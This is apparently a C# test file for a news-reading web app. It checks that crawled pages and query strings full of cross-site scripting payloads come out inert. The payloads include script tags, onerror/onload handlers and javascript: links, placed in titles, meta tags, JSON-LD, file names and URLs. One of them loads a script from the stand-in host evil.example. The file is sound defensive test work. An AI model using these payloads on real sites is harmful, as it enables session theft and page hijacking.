using System.Text;

namespace Readout.Web.Tests;

/// <summary>Pages written to attack whoever reads them: every place that a page can fill in holds code.</summary>
public class HostilePageTests
{
    private const string Attack = "\"><script src=//evil.example/x.js></script><img src=x onerror=alert(1)>";

    private static readonly string s_html = $$"""
        <!doctype html><html lang="en"><head>
        <title>Ada Moll said &lt;script&gt;alert(1)&lt;/script&gt; will close the harbour &lt;svg onload=alert(2)&gt;</title>
        <meta property="og:site_name" content="Orlen {{Attack.Replace("\"", "&quot;", StringComparison.Ordinal)}} Courier">
        <meta name="author" content="Jory &lt;img src=x onerror=alert(3)&gt; Pell">
        <link rel="canonical" href="javascript:alert(4)">
        <meta property="article:published_time" content="2024-03-05T10:00:00Z">
        <script type="application/ld+json">{"@type":"NewsArticle","headline":"\u003c/script>\u003cscript>alert(5)\u003c/script>","datePublished":"2024-03-05","author":{"name":"\u003cscript>alert(6)\u003c/script>"} }</script>
        </head><body><article>
        <h1>Ada Moll said &lt;script&gt;alert(1)&lt;/script&gt; will close the harbour &lt;svg onload=alert(2)&gt;</h1>
        <p>“The ferry &lt;script&gt;alert(7)&lt;/script&gt; will not sail on Friday,” Mayor Ada Moll told reporters in Orlen on Tuesday &lt;img src=x onerror=alert(8)&gt;.</p>
        <p>Jory Pell, who runs the &lt;iframe src=//evil.example&gt; ferry, said that 40 people &lt;a href="javascript:alert(9)"&gt;had&lt;/a&gt; lost their jobs at the harbour in March.</p>
        <p>The council of Vask will meet on 14 March if the &lt;style&gt;*{background:url(//evil.example)}&lt;/style&gt; storm ends, Ina Sorrel said on Tuesday.</p>
        <p>The harbour was closed for eleven days in February 2024 after a storm, the port authority said, and nobody was hurt.</p>
        </article></body></html>
        """;

    private static readonly string s_text = $"""
        Ferry {Attack} stops
        By <b onmouseover=alert(1)>Ina Sorrel</b>
        6 March 2024

        “The ferry <script>alert(7)</script> will not sail on Friday,” Mayor Ada Moll said in Orlen on Tuesday. She blamed {Attack} the storm.

        Jory Pell said that 45 people had lost their jobs at the harbour in March. <svg/onload=alert(1)> The council of Vask will meet on 15 March, Pell said.

        Ina Sorrel, <a href=javascript:alert(1)>the port's head</a>, said that the harbour was closed for twelve days in February 2024.
        """;

    [Fact]
    public async Task Nothing_that_a_page_says_comes_out_alive()
    {
        using var site = new TestSite(
        [
            ("a.html", Encoding.UTF8.GetBytes(s_html)), ("<img src=x onerror=alert(1)>.txt", Encoding.UTF8.GetBytes(s_text)), ("b\" onmouseover=\"alert(1).txt", Encoding.UTF8.GetBytes(s_text + " Later.")),
        ]);
        var pages = await Crawl.All(site);
        pages.Count.ShouldBeGreaterThan(40);
        foreach (var (address, page) in pages)
        {
            page.QuerySelectorAll("script").ShouldAllBe(s => s.GetAttribute("src")!.StartsWith("/assets/", StringComparison.Ordinal) && s.TextContent.Length == 0, address);
            page.QuerySelectorAll("iframe, object, embed, style, base, img, link:not([href^='/assets/'], [rel=expect][href^='#'], [rel=alternate][href^='/v1/']), form[action*='//']").ShouldBeEmpty(address);
            foreach (var element in page.All)
            {
                element.Attributes.ShouldAllBe(a => !a.Name.StartsWith("on", StringComparison.Ordinal) && a.Name != "style", address);
                if (element.GetAttribute("href") is { } href)
                    (href.Length == 0 || href[0] is '/' or '#').ShouldBeTrue($"{address}: {href}");
            }
        }
        // the attack is there to be read
        pages.Values.Count(p => p.Body!.TextContent.Contains("<script>alert(7)</script>", StringComparison.Ordinal)).ShouldBeGreaterThan(5);
        pages.Values.Count(p => p.Body!.TextContent.Contains("<img src=x onerror=", StringComparison.Ordinal)).ShouldBeGreaterThan(5);
    }

    [Fact]
    public async Task The_original_is_text_and_nothing_else()
    {
        using var site = new TestSite([("a.html", Encoding.UTF8.GetBytes(s_html))]);
        var story = site.Stories()[0].Id;
        var reader = (await site.Open($"/stories/{story}/sources")).QuerySelector("a[data-main]")!.GetAttribute("href");
        using var answer = await site.Client.GetAsync(new Uri(reader + "/capture", UriKind.Relative));
        answer.Content.Headers.ContentType!.MediaType.ShouldBe("text/plain");
        answer.Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");
        (await answer.Content.ReadAsStringAsync()).ShouldBe(s_html);
    }

    [Theory]
    [InlineData("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E")]
    [InlineData("/people?name=%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("/outlets?name=%27%22%3E%3Csvg%20onload=alert(1)%3E")]
    [InlineData("/stories/%3Cscript%3E")]
    [InlineData("/watches?value=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")]
    public async Task What_an_address_says_does_not_come_out_alive_either(string address)
    {
        using var site = TestSite.OfSamples("strike");
        using var answer = await site.Client.GetAsync(new Uri(address, UriKind.Relative));
        ((int)answer.StatusCode).ShouldBeLessThan(500);
        var page = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(await answer.Content.ReadAsStringAsync());
        page.QuerySelectorAll("script:not([src^='/assets/']), main svg, img").ShouldBeEmpty();
    }
}
